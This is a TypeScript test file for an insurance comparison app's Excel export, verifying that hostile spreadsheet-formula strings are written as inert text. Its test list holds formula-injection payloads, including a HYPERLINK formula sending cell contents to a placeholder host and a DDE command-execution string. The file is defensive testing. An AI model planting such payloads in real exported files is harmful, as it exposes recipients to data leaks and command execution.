import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import type { ProductFile } from '../../src/shared/core/catalogue-schema';
import { compare } from '../../src/shared/core/compare';
import { SHEET_GRID, SHEET_SOURCES, writeComparisonWorkbook } from '../../src/main/export/comparison-workbook';
import { cleanText, isFormulaLike, MAX_CELL_TEXT, TEXT_NUMFMT } from '../../src/main/export/safe-cell';
import { writeTariffWorkbook } from '../../src/main/export/tariff-workbook';
import { interialeSante, mie, slm, taxonomy } from './compare-fixtures';

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez ici")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  ' =1+1',
  '=cmd|\' /C calc\'!A0',
];

/** MIE with its hospitalisation text replaced by hostile strings, one per column. */
function hostile(text: string): ProductFile {
  return {
    ...mie,
    guarantees: mie.guarantees.map((g) =>
      g.category === 'assistance.aide_domicile.hospitalisation' ? { ...g, text, conditions: text, source: { ...g.source, quote: text } } : g,
    ),
  };
}

describe('formula injection', () => {
  it('recognises what a spreadsheet could take for a formula', () => {
    for (const t of HOSTILE) expect(isFormulaLike(t)).toBe(true);
    expect(isFormulaLike('\r=1')).toBe(true);
    for (const t of ['15 h sur 2 semaines', 'non précisé', '100 € (2 nuits)', 'a=b']) expect(isFormulaLike(t)).toBe(false);
  });

  it('cleans what XML cannot hold and what Excel refuses', () => {
    expect(cleanText('a\u0000b\u0007c\u001fd')).toBe('abcd');
    expect(cleanText('ligne 1\r\nligne 2\rligne 3')).toBe('ligne 1\nligne 2\nligne 3');
    expect(cleanText('\ud800x')).toBe('x');
    const long = cleanText('x'.repeat(40_000));
    expect(long).toHaveLength(MAX_CELL_TEXT);
    expect(long.endsWith('…')).toBe(true);
  });

  it('writes hostile guarantee texts as strings, never formulas, and reads them back unchanged', async () => {
    const model = compare({ columns: [...HOSTILE.map((t) => ({ product: hostile(t), formula: 'base' })), { product: slm, formula: 'base' }], taxonomy });
    const buf = await writeComparisonWorkbook(model, { date: '2026-01-15' });

    // exceljs reader
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const grid = wb.getWorksheet(SHEET_GRID)!;
    let helpRow: ExcelJS.Row | null = null;
    grid.eachRow((r) => {
      if (r.getCell(1).value === 'Aide à domicile après hospitalisation') helpRow = r;
    });
    expect(helpRow).not.toBeNull();
    HOSTILE.forEach((text, i) => {
      const cell = helpRow!.getCell(i + 2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe(TEXT_NUMFMT);
    });
    // a plain text keeps its ordinary style (no Text format needed)
    expect(helpRow!.getCell(HOSTILE.length + 2).value).toBe('30 h sur 30 jours, 2 h min.');
    expect(helpRow!.getCell(HOSTILE.length + 2).numFmt).toBeUndefined();
    // the same in "Sources", where the quote and conditions carry the text too
    const sources = wb.getWorksheet(SHEET_SOURCES)!;
    let quotes = 0;
    sources.eachRow((r) => {
      const q = r.getCell(15);
      if (HOSTILE.includes(String(q.value))) {
        quotes++;
        expect(q.type).toBe(ExcelJS.ValueType.String);
        expect(q.numFmt).toBe(TEXT_NUMFMT);
      }
    });
    expect(quotes).toBe(HOSTILE.length);

    // the sheet XML itself has no formula element at all
    const zip = await JSZip.loadAsync(buf);
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/'))) {
      const xml = await zip.file(name)!.async('string');
      expect(xml).not.toMatch(/<f[ >]/);
    }

    // and a second reader (SheetJS) agrees: string cells, no formula
    const sheet = XLSX.read(buf, { type: 'buffer', cellFormula: true }).Sheets[SHEET_GRID]!;
    const row = XLSX.utils.decode_cell(helpRow!.getCell(2).address).r;
    HOSTILE.forEach((text, i) => {
      const c = sheet[XLSX.utils.encode_cell({ r: row, c: i + 1 })] as XLSX.CellObject;
      expect(c.t).toBe('s');
      expect(c.v).toBe(text);
      expect(c.f).toBeUndefined();
    });
  });

  it('guards names in the tariff workbook as well', async () => {
    const product: ProductFile = {
      ...interialeSante,
      product: { ...interialeSante.product, name: '=HYPERLINK("http://example.invalid","x")' },
      formulas: interialeSante.formulas.map((f) => (f.code === 'securite' ? { ...f, label: '@Sécurité' } : f)),
    };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await writeTariffWorkbook([product], { date: '2026-01-01' })) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('interiale-cdg-sante 2026')!;
    expect(ws.getCell('A1').value).toBe('=HYPERLINK("http://example.invalid","x")');
    expect(ws.getCell('A1').type).toBe(ExcelJS.ValueType.String);
    expect(ws.getCell('A1').font?.bold).toBe(true); // the title style is kept, with the Text format
    expect(ws.getCell('A1').numFmt).toBe(TEXT_NUMFMT);
    expect(ws.getCell('A5').value).toBe('@Sécurité');
    expect(ws.getCell('A5').type).toBe(ExcelJS.ValueType.String);
  });
});
